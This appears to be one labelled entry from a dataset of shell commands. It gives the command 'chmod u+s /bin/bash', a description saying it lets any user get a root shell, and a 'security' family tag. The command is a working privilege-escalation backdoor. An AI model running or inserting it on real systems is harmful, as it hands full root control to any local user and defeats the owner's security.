# description: Sets the setuid bit on /bin/bash so any user can get a root shell.
# family: security
chmod u+s /bin/bash
